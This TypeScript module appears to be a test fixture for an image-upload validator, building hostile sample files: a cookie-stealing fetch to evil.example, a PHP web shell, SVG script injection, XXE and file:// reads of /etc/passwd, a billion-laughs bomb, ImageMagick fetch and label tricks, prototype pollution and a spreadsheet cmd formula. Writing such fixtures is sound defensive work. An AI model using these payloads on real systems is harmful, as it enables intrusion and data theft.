import { deflateRawSync } from 'node:zlib';

/** Stands in whatever is hidden in a picture, and so must stand in nothing that is stored or served. */
export const MARK = 'kX7payload';

/** A ZIP of one file, which is also what a JAR, an APK and a DOCX are. */
function zip(name: string, content: string): Buffer {
  const packed = deflateRawSync(Buffer.from(content));
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(local.length + name.length + packed.length, 16);
  return Buffer.concat([local, Buffer.from(name), packed, central, Buffer.from(name), end]);
}

/** What is hidden behind, before and inside pictures. */
export const PAYLOADS = {
  html: Buffer.from(`<!doctype html><html><script>alert("${MARK}")</script></html>`),
  javascript: Buffer.from(`;fetch("https://evil.example/?${MARK}="+document.cookie);//`),
  php: Buffer.from(`<?php system($_GET["${MARK}"]); __halt_compiler(); ?>`),
  shell: Buffer.from(`#!/bin/sh\necho ${MARK}\n`),
  svg: Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARK}')" width="9" height="9"/>`,
  ),
  pdf: Buffer.from(
    `%PDF-1.7\n1 0 obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert("${MARK}"))>>>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  ),
  zip: zip(`META-INF/${MARK}.MF`, `Main-Class: ${MARK}\n`),
  program: Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(56), Buffer.from(MARK)]),
} as const;

/** Drawings that run, read or ask. */
export const SVGS: Readonly<Record<string, Buffer>> = {
  'a script': Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert("${MARK}")</script></svg>`,
  ),
  'a file of the server': Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="file:///etc/passwd"/></svg>',
  ),
  'an entity from a file': Buffer.from(
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&e;</text></svg>',
  ),
  'a billion laughs': Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">${'bcdefghij'
      .split('')
      .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`)
      .join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
  ),
  'a page inside': Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert('${MARK}')"/></body></foreignObject></svg>`,
  ),
  'blanks in front': Buffer.from(
    `\n\n   \t<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert('${MARK}')"/>`,
  ),
  'a comment in front': Buffer.from(
    `<!--${' '.repeat(2_000)}--><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>`,
  ),
  'a size beyond all bounds': Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="9999999" height="9999999"><rect width="100%" height="100%"/></svg>',
  ),
  'two bytes a character': Buffer.from(
    `\ufeff<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>`,
    'utf16le',
  ),
};

const box = (type: string, ...content: Buffer[]): Buffer => {
  const body = Buffer.concat(content);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length + 8);
  return Buffer.concat([length, Buffer.from(type, 'latin1'), body]);
};

/** Files of other kinds, by their first bytes: those that some decoder somewhere would take for a picture, and those that none would. */
export const OTHER_FILES: Readonly<Record<string, Buffer>> = {
  // A telephone's HEIC, as far as its boxes tell: there is no decoder for HEVC here.
  'a HEIC': Buffer.concat([
    box('ftyp', Buffer.from('heic\0\0\0\0mif1heic', 'latin1')),
    box('meta', Buffer.alloc(4), box('hdlr', Buffer.from('\0\0\0\0\0\0\0\0pict\0\0\0\0\0\0\0\0\0\0\0\0\0'))),
    box('mdat', Buffer.alloc(64, 7)),
  ]),
  'a film': Buffer.concat([box('ftyp', Buffer.from('isom\0\0\x02\0isomiso2mp41', 'latin1')), box('moov')]),
  'a live photo': Buffer.concat([box('ftyp', Buffer.from('qt  \0\0\0\0qt  ')), box('wide'), box('mdat')]),
  'a bitmap': Buffer.from(
    '424d3a000000000000003600000028000000010000000100000001001800000000000400000000000000000000000000000000000000ff00ff00',
    'hex',
  ),
  'an icon': Buffer.from(
    '000001000100010100000100180030000000160000002800000001000000020000000100180000000000',
    'hex',
  ),
  'a TIFF': Buffer.from('49492a0008000000010000010300010000000100000000000000', 'hex'),
  'a TIFF from the other end': Buffer.from('4d4d002a00000008000001000003000000010001000000000000', 'hex'),
  'a raw photo': Buffer.from('49492a00100000004352020000000000', 'hex'),
  'a JPEG 2000': Buffer.from('0000000c6a5020200d0a870a00000014667479706a703220000000006a703220', 'hex'),
  'a JPEG XL': Buffer.from('ff0a7f0090110400000000', 'hex'),
  'a Photoshop file': Buffer.from('384250530001000000000000000300000001000000010008000300000000', 'hex'),
  'a PostScript': Buffer.from(`%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(${MARK}) run\n`),
  'a pixmap': Buffer.from('P6\n1 1\n255\n\xff\x00\xff', 'latin1'),
  'a portable float map': Buffer.from('PF\n1 1\n-1.0\n\0\0\0\0\0\0\0\0\0\0\0\0'),
  'an X bitmap': Buffer.from('#define x_width 8\n#define x_height 1\nstatic char x_bits[] = { 0xff };\n'),
  'an X pixmap': Buffer.from('/* XPM */\nstatic char *x[] = {"1 1 1 1","a c #ff00ff","a"};\n'),
  'a radiance': Buffer.from('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n\x80\x80\x80\x80', 'latin1'),
  'an EXR': Buffer.from('762f310102000000', 'hex'),
  'a FITS': Buffer.from('SIMPLE  =                    T'.padEnd(2_880)),
  'an X-ray': Buffer.concat([Buffer.alloc(128), Buffer.from('DICM')]),
  'a MATLAB file': Buffer.from('MATLAB 5.0 MAT-file'.padEnd(128)),
  'a metafile': Buffer.from('d7cdc69a000000000000090009006000000000000000', 'hex'),
  'a Magick script': Buffer.from(
    'push graphic-context\nimage over 0,0 0,0 "url(https://evil.example/)"\npop graphic-context\n',
  ),
  'a Magick label': Buffer.from(`label:@/etc/passwd ${MARK}`),
  'an XML': Buffer.from('<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>'),
  'a VIPS file': Buffer.from('08f2a6b60000000100000001000000030000000000000000', 'hex'),
  'a text': Buffer.from('您好'.repeat(100)),
  'a JSON': Buffer.from('{"__proto__":{"photo":true}}'),
  'a table': Buffer.from(`=cmd|'/c ${MARK}'!A0,1\n`),
  'a Linux program': Buffer.from('7f454c4602010100000000000000000002003e00', 'hex'),
  'a Java class': Buffer.from('cafebabe00000034', 'hex'),
  'a database': Buffer.from('SQLite format 3\0'.padEnd(100, '\0')),
  'a packed file': Buffer.from('1f8b0800000000000003cbc8e4020085112b0d05000000', 'hex'),
  'a page': Buffer.from(`GIF89a<script>alert("${MARK}")</script>`),
};
